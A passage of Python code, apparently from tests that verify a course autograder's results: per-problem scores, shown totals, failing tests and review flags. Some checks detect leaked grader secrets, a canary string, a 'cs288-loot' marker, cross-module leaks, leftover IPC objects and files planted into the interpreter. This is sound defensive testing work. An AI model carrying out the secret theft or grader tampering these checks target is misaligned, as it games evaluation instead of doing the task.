        name: sum(test.split("::")[-1].split("[")[0] in case.failing for test in tests) / len(tests)
        for name, tests in scored.items()
    }


def shown_total_problems(results: dict) -> list[str]:
    """The total shown at once must be that of the entries visible at once."""
    visible = round(sum(t["score"] for t in results["tests"] if t["visibility"] == "visible"), 2)
    first = results["output"].splitlines()[0]
    wanted = f"Total of the entries shown now: {visible:g} points."
    return [] if first == wanted else [f"the total shown at once is {first!r}, not {wanted!r}"]


def entry_named(results: dict, prefix: str) -> dict | None:
    found = [test for test in results["tests"] if test["name"].startswith(prefix)]
    return found[0] if len(found) == 1 else None


def problem_name(entry: dict) -> str:
    """``rope`` for the entry ``Part 2: rope (public tests)``."""
    return re.sub(r"^Part \d: (.+) \((public|hidden) tests\)$", r"\1", entry["name"])


def wanted_score(case: Case, entry: dict) -> float:
    """What a problem entry must score for ``case``: every point or none."""
    full = problem_name(entry) not in case.lost if case.lost else case.full_points
    return entry["max_score"] if full else 0


def case_problems(case: Case, results: dict, bundle: Path, canary: str) -> list[str]:
    """Everything about ``results`` that is not what ``case`` earned (empty when all is right)."""
    problems = valid_results_problems(results)
    graded = problem_entries(results)
    if not graded:
        problems.append("no problem entry")
    if case.lost:
        wanted = {t["name"]: wanted_score(case, t) for t in graded}
    elif case.full_points:
        shares = failing_shares(case, bundle)
        wanted = {t["name"]: round(t["max_score"] * (1 - shares.get(t["name"], 0)), 2) for t in graded}
    else:
        wanted = {t["name"]: 0 for t in graded}
    problems += [f"{t['name']}: {t['score']}/{t['max_score']}" for t in graded if t["score"] != wanted[t["name"]]]
    failed = {name for t in graded for name in re.findall(r"^  (test_\w+)[^:]*: ", t["output"], re.MULTILINE)}
    if case.full_points and not case.lost and failed != set(case.failing):
        problems.append(f"failed {sorted(failed)} where {sorted(case.failing)} must fail")
    names = {problem_name(t) for t in graded}
    problems += [f"no entry for the lost problem {name}" for name in case.lost if name not in names]
    problems += shown_total_problems(results)
    outputs = "\n".join(t["output"] for t in results["tests"])
    if case.reason not in outputs:
        problems.append(f"no entry says {case.reason!r}")
    shown = visible_text(results)
    secrets_ = [*secret_strings(bundle), canary]
    problems += [f"a secret is shown: {secret!r}" for secret in secrets_ if secret in shown]
    if "cs288-loot" in shown or f"{LEAK_MARKER} {LEAK_MARKER}" in shown or IPC_MARKER in shown:
        problems.append("a later module saw what an earlier one kept")
    problems += [f"an IPC object outlived grading: {found}" for found in leftover_ipc()]
    problems += [f"a file was written into the interpreter: {path}" for path in planted_files()]
    flags = entry_named(results, "Review flags")
    for flag in case.flags:
        if flags is None or flag not in flags["output"]:
            problems.append(f"no review flag for {flag}")
    if "huge_int" in case.name or "nested" in case.name:
        part_4a, part_4b = entry_named(results, "Part 4A"), entry_named(results, "Part 4B")
        if (part_4a and part_4a["score"], part_4b and part_4b["score"]) != (
            round(part4_points(PART4_FILES)["4A"], 2),
            0,
        ):
            problems.append("a bad prompting predictions file must cost only Part 4B")
    return problems
